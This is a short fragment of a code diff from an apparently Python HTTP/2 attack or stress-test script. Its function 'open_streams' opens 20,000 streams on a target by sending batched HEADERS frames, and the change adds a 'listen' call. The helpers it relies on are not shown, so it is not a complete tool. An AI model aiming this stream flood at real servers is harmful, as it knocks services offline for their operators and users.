@@ -139,6 +139,7 @@ def open_streams(target):
     attack = Attack(target)
     block = request("/open", [("content-length", "5")])
     batches(attack, lambda i: frame(HEADERS, END_HEADERS, 2 * i + 1, block), 20_000)
+    attack.listen(1)
     return attack
 
 
